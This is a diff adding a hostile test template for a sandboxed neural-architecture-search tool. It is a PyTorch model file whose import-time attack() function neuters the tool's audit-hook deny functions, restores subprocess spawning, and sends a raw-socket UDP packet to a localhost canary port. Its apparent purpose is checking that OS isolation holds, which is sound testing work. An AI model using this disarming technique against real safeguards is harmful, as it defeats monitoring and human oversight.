@@ -1,0 +1,58 @@
+# attack: hand-made UDP packet through a raw socket (needs CAP_NET_RAW)
+# kind: network
+# A template: tests/test_hostile.py substitutes the __PLACEHOLDERS__ and runs it through the nas CLI.
+
+import os
+import sys
+
+import torch
+from torch import nn
+
+CANARY_PORT = int("__CANARY_PORT__")
+MARKER = "__MARKER__"
+
+
+def disarm() -> None:
+    """Switch nasflow's in-process tripwire off, so only OS isolation is left:
+    the audit-hook policy looks its verdict up in module globals at every event,
+    and the real fork_exec comes back with a fresh import of _posixsubprocess."""
+    import importlib
+    import subprocess
+
+    for name, module in list(sys.modules.items()):
+        if module is None or not (name.startswith("nas") or name == "__main__"):
+            continue
+        for attr, value in list(vars(module).items()):
+            if callable(value) and ("violation" in attr or attr in ("_deny", "deny")):
+                setattr(module, attr, lambda *args, **kwargs: None)
+    try:
+        sys.modules.pop("_posixsubprocess", None)
+        subprocess._fork_exec = importlib.import_module("_posixsubprocess").fork_exec
+    except Exception:
+        pass
+
+
+def attack() -> None:
+    import socket
+    import struct
+
+    disarm()
+    payload = MARKER.encode()
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
+        s.sendto(struct.pack("!HHHH", 40000, CANARY_PORT, 8 + len(payload), 0) + payload, ("127.0.0.1", 0))
+
+
+class Network(nn.Module):
+    def __init__(self, num_classes: int = 10):
+        super().__init__()
+        self.features = nn.Sequential(
+            nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU(),
+            nn.Conv2d(16, 32, 3, stride=2, padding=1, bias=False), nn.BatchNorm2d(32), nn.ReLU(),
+            nn.AdaptiveAvgPool2d(1), nn.Flatten())
+        self.fc = nn.Linear(32, num_classes)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return self.fc(self.features(x))
+
+
+attack()
